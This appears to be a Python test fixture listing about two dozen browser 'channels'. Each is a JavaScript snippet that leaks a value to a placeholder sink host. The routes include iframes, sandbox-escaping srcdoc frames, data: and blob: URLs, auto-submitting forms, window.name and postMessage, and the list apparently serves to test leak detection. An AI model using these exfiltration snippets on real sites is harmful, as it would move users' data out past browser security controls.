"""Channels: frames of every kind, plug-in elements and documents made of data."""

from __future__ import annotations

from tests.channels.channel import Channel, File

_INNER = '<script>new Image().src = "${u("inner", v)}"</scr` + "ipt>"'
_FETCHES = '<script>fetch("${u("inner", 0)}", {method: "POST", mode: "no-cors", body: "${v}"})</scr` + "ipt>"'

CHANNELS = (
    Channel("iframe", 'add("iframe", {src: u("iframe", v)})'),
    Channel("iframe-lazy", 'add("iframe", {loading: "lazy", src: u("iframe", v)})'),
    Channel("iframe-credentialless", 'add("iframe", {credentialless: "", src: u("iframe", v)})'),
    Channel("iframe-fetch", 'frame().fetch(u("fetch", v), {mode: "no-cors"})'),
    Channel("iframe-script", """const w = frame(); const s = w.document.createElement("script"); s.src = u("fscript",
      v);
      w.document.body.append(s)"""),
    Channel("iframe-srcdoc", f'add("iframe", {{srcdoc: `{_INNER}}})'),
    Channel("iframe-sandbox", f'add("iframe", {{sandbox: "allow-scripts", srcdoc: `{_FETCHES}}})'),
    Channel("iframe-sandbox-popup", """add("iframe",
      {sandbox: "allow-scripts allow-popups allow-popups-to-escape-sandbox",
      srcdoc: `<script>open("${u("boxed", v)}")</scr` + "ipt>"})"""),
    Channel("iframe-sandbox-top", """add("iframe", {sandbox: "allow-scripts allow-top-navigation",
      srcdoc: `<script>top.location = "${u("boxed", v)}"</scr` + "ipt>"})"""),
    Channel("iframe-data", f'add("iframe", {{src: "data:text/html," + encodeURIComponent(`{_INNER})}})'),
    Channel("iframe-data-form", """add("iframe", {src: "data:text/html," + encodeURIComponent(
      `<form method=post action="${u("dataform", 0)}"><input name=d value="${v}"></form>
      <script>document.forms[0].submit()</scr` + "ipt>")})"""),
    Channel("iframe-blob", f'add("iframe", {{src: blob(`{_INNER}, "text/html")}})'),
    Channel("iframe-javascript", 'add("iframe", {src: `javascript:void fetch("${u("js", v)}", {mode: "no-cors"})`})'),
    Channel("iframe-meta-refresh", """add("iframe",
      {srcdoc: `<meta http-equiv=refresh content="0; url=${u("meta", v)}">`})"""),
    Channel("iframe-srcdoc-image", 'add("iframe", {srcdoc: `<img src="${u("srcdoc", v)}">`})'),
    Channel("iframe-name", """window.name = v; add("iframe", {name: v, src: at("named")})""",
            files={"named": File('<script>new Image().src = "@TO@/sink/named?d=" + window.name</script>')}),
    Channel("iframe-message", """const f = add("iframe", {src: at("told")}); f.onload = () =>
      f.contentWindow.postMessage(v, "*")""",
            files={"told": File("""<script>onmessage = (e) => { new Image().src = "@TO@/sink/told?d=" + e.data;
      }</script>""")}),
    Channel("frameset",
            """document.documentElement.innerHTML = `<frameset><frame src="${u("frameset", v)}"></frameset>`"""),
    Channel("fenced-frame", """const f = add("fencedframe"); f.config = new FencedFrameConfig(u("fenced", v))""",
            unseen="the browser no longer has it"),
    Channel("object-html", """add("object", {data: blob(`<img src="${u("objhtml", v)}">`, "text/html"),
      type: "text/html"})"""),
    Channel("embed-svg", 'add("embed", {type: "image/svg+xml", src: u("embedsvg", v)})'),
    Channel("document-write", """const w = open("about:blank");
      w.document.write(`<form method=post action="${u("w", 0)}"><input name=d value="${v}"></form>`);
      w.document.forms[0].submit()"""),
    Channel("document-open", 'document.open(); document.write(`<img src="${u("opened", v)}">`); document.close()'),
    Channel("srcdoc-base", """add("iframe", {srcdoc: `<base href="${TO}/sink/"><img src="based?d=${v}">`})"""),
)
